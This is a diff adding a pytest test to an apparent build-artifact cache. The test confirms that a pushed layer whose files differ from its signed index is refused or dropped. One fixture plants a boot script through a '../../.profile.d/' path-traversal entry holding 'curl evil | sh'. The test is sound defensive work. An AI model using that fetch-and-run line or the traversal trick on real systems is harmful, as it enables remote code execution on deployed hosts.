@@ -9,6 +9,7 @@ is unusable")."""
 
 from __future__ import annotations
 
+import base64
 import gzip
 import hashlib
 import io
@@ -225,3 +226,56 @@ def test_metadata_nested_deeper_than_slugbuilds_own_is_refused_at_the_pull(
     with pytest.raises(ArtifactInvalid, match="malformed"):
         layer_artifact.fetch_artifact(Store(), "sb1-test", "runtimes",  # type: ignore[arg-type]
                                       KEY)
+
+
+def _stub_of(files: dict[str, bytes]) -> list[str]:
+    """The paths a pusher's stub carries, as this slugbuild stubs (dist-info files and
+    packages' __init__.py before part-only layers had a rule of their own)."""
+    rule = getattr(layer_artifact, "_stubbed", None)
+    if rule is not None:
+        return [rel for rel in files if rule(rel)]
+    return [rel for rel in files if ".dist-info/" in rel or rel.endswith("/__init__.py")]
+
+
+@pytest.mark.parametrize("extra", [
+    {},                                              # listed files, other bytes
+    {"../../.profile.d/evil.sh": b"curl evil | sh\n"},  # and a boot script outside the layer
+], ids=["backdoored", "outside"])
+def test_a_part_unlike_its_index_is_never_kept_for_slugs(tmp_path: Path,
+                                                         extra: dict[str, bytes]) -> None:
+    # However an entry is kept (its tree written, or its part kept alone with a stub the
+    # pusher carries in the index), the slug part kept for packing is what the index
+    # lists: the slug, its slug.json and its SBOM must agree.
+    site = "lib/python3.12/site-packages"
+    clean = {f"{site}/pkg-1.0.dist-info/METADATA":
+             b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n",
+             f"{site}/pkg-1.0.dist-info/RECORD":
+             b"pkg/__init__.py,,\npkg-1.0.dist-info/METADATA,,\npkg-1.0.dist-info/RECORD,,\n",
+             f"{site}/pkg/__init__.py": b"SAFE = True\n"}
+    stub = _stub_of(clean)
+    index: dict[str, Any] = {
+        "files": {rel: [len(data), 0o100644, hashlib.sha256(data).hexdigest()]
+                  for rel, data in clean.items()},
+        "symlinks": {}, "host_paths": None,
+        "dirs": ["lib", "lib/python3.12", site, f"{site}/pkg", f"{site}/pkg-1.0.dist-info"],
+        "stub": stub, "stub_data": {rel: base64.b64encode(clean[rel]).decode() for rel in stub}}
+    sent = {**clean, f"{site}/pkg/__init__.py": b"SAFE = 0x0\n", **extra}
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w") as tar:
+        for rel, data in sent.items():
+            info = tarfile.TarInfo(f"./.heroku/python/{rel}")
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    config = {"format": ARTIFACT_FORMAT, "namespace": "sb1-test", "kind": "layers",
+              "name": "pkg-layer", "key": KEY, "inputs": {},
+              "part": {"name": "p", "prefix": "./.heroku/python/", "raw_size": len(
+                  raw.getvalue())}}
+    try:
+        layer = materialise(Cache(tmp_path / "cache"),
+                            Fetched(config, index, gzip.compress(raw.getvalue())))
+    except ArtifactInvalid:
+        return
+    [kept] = layer.packed_parts.glob("*.gz")
+    with tarfile.open(kept) as tar:
+        held = {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}
+    assert held == {f"./.heroku/python/{rel}": data for rel, data in clean.items()}
